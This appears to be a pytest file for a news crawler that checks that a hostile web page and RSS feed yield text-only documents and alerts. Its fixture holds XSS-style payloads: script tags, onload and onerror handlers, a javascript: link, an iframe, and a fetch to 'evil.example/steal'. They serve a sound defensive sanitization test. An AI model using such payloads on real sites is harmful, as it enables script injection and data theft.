"""RELIABILITY item 12: scripts, event handlers, javascript: links and CSS never reach a document
or an alert; only text does."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from sqlalchemy import select

from crawler.config import parse_settings
from crawler.pipeline import run_once
from storage.db import open_database
from storage.models import AlertRow, DeliveryRow, DocumentRow
from tests.sitekit import Site, rss

HOSTILE = """<!doctype html><html><head><title>Cluster news</title>
<style>p { color: red } .x::after { content: "STYLE-LEAK" }</style>
<script>document.write("SCRIPT-LEAK"); fetch("https://evil.example/steal")</script></head>
<body onload="alert('ONLOAD-LEAK')"><main><article><h1>Cluster news</h1>
<p>Meituan said the training cluster links tens of thousands of accelerator cards across two
data centres, according to a statement published on Tuesday.<img src=x onerror="alert('ONERROR-LEAK')"></p>
<p>Engineers described the network as the hardest part of the project, <a href="javascript:alert('JS-LINK-LEAK')">
read more</a> in the report released alongside the model weights this week.</p>
<p>The company did not give a timeline for the next model, saying only that work had started.</p>
<noscript>NOSCRIPT-LEAK</noscript><template>TEMPLATE-LEAK</template>
<svg><script>SVG-SCRIPT-LEAK</script></svg><iframe srcdoc="<p>IFRAME-LEAK</p>"></iframe>
</article></main></body></html>"""

LEAKS = ("SCRIPT-LEAK", "STYLE-LEAK", "ONLOAD-LEAK", "ONERROR-LEAK", "JS-LINK-LEAK", "javascript:",
         "NOSCRIPT-LEAK", "TEMPLATE-LEAK", "SVG-SCRIPT-LEAK", "IFRAME-LEAK", "<", "evil.example")


def test_hostile_page_yields_text_only_documents_and_alerts(tmp_path: Path) -> None:
    (tmp_path / "rules.yaml").write_text(
        "version: 1\nrules:\n  - id: t.cluster\n    title: Cluster\n    severity: low\n"
        "    query: 'cluster AND cards'\n", "utf-8")
    with Site() as site:
        site.add("/a", HOSTILE)
        site.add("/feed", rss([{"title": "<b onmouseover=alert(1)>Cluster</b>", "link": site.url("/a"),
                                "guid": "1", "description": "<script>alert('FEED-LEAK')</script>x"}]),
                 "application/rss+xml")
        settings = parse_settings(f"""
database: "sqlite:///{tmp_path / 'sw.db'}"
fetch: {{allow_private_networks: ["127.0.0.1/32"], per_host_min_gap: 0s}}
rules: {{paths: ["{tmp_path / 'rules.yaml'}"]}}
alerts: {{channels: {{console: {{type: console}}}}}}
sources: [{{id: s, kind: feed, url: "{site.url('/feed')}"}}]
""")
        report = asyncio.run(run_once(settings, settings.source_specs(), deliver=False))
    assert report.new_alerts == 1
    db = open_database(settings.database_url)
    with db.read() as s:
        doc = s.scalars(select(DocumentRow)).one()
        alert = s.scalars(select(AlertRow)).one()
        payloads = [json.dumps(p) for p in s.scalars(select(DeliveryRow.payload))]
    assert "accelerator cards" in doc.text and "hardest part of the project" in doc.text
    for leak in LEAKS:
        assert leak not in doc.text, leak
        assert leak not in doc.title, leak
        assert leak not in alert.evidence, leak
    for payload in payloads:
        for leak in LEAKS[:-2]:
            assert leak not in payload, leak
        assert "FEED-LEAK" not in payload
